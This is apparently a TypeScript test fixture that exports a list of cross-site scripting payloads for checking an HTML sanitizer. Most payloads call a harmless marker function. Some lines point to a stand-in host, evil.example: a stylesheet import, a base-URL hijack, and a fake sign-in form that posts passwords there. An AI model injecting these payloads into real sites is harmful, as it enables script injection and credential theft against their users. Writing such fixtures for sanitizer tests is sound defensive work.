/** Every payload calls it by this name where it runs. */
export const RUNS = 'attacked'

/** What people write who want a script to run where others read it. */
export const scriptPayloads: readonly string[] = [
  `<script>${RUNS}()</script>`,
  `"><img src=x onerror="${RUNS}()">`,
  `'><svg/onload=${RUNS}()>`,
  `<svg><script href="data:text/javascript,${RUNS}()"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUNS}()</script>"></iframe>`,
  `<a href="javascript:${RUNS}()">here</a>`,
  `<a href="jav&#x09;ascript:${RUNS}()">here</a>`,
  `javascript:${RUNS}()//https://example.org`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}()&gt;">`,
  `<details open ontoggle=${RUNS}()>`,
  `<input autofocus onfocus=${RUNS}()>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUNS}()">`,
  `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
  `</title></textarea></style></script><script>${RUNS}()</script>`,
  `{{constructor.constructor('${RUNS}()')()}} \${${RUNS}()}`,
  `&lt;script&gt;${RUNS}()&lt;/script&gt;`,
  `%3Cscript%3E${RUNS}()%3C/script%3E`,
]
